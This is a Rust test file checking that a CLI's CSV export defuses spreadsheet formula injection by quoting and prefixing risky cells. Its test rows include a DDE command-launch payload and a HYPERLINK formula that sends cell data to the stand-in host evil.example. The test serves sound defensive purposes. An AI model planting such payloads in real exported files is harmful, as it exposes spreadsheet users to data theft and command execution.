//! The CSV the CLI writes cannot run as a formula in a spreadsheet (OWASP "CSV Injection"):
//! a cell starting with = + - @, tab or CR gets a ' before it and quotes around it.

mod common;
use common::demo_training_batch;

fn group_csv(rows: &str) -> Vec<String> {
    let run = demo_training_batch(&["--format", "csv", "--input-format", "csv"], rows);
    run.expect_code(0);
    run.stderr
        .lines()
        .skip_while(|l| !l.starts_with("group,"))
        .skip(1)
        .take_while(|l| !l.starts_with("rows:"))
        .map(str::to_string)
        .collect()
}

#[test]
fn project_ids_that_are_formulas_are_written_as_text() {
    let rows = "org.trainees,org.project,org.year\n\
                1,=1+1,2024\n\
                1,+cmd|' /C calc'!A0,2024\n\
                1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",2024\n\
                1,@SUM(1+1),2024\n\
                1,-2+3,2024\n\
                1,\"\t=1+2\",2024\n\
                1,x;=3+3,2024\n\
                1,P1,2024\n";
    let groups = group_csv(rows);
    assert_eq!(groups.len(), 8, "{groups:#?}");
    let expected_starts = [
        // Sorted by group; the engine trims the tab off "\t=1+2", which makes it a formula again.
        // The | inside the answer is escaped in the group's name (`\|`, see the engine's batch.rs).
        "\"'+cmd\\|' /C calc'!A0|2024\",",
        "\"'-2+3|2024\",",
        "\"'=1+1|2024\",",
        "\"'=1+2|2024\",",
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")|2024\",",
        "\"'@SUM(1+1)|2024\",",
        "P1|2024,",
        // A semicolon separates cells in many locales' spreadsheets: quoted, it stays one cell.
        "\"x;=3+3|2024\",",
    ];
    for (line, start) in groups.iter().zip(expected_starts) {
        assert!(line.starts_with(start), "{line}\nshould start with {start}");
    }
}
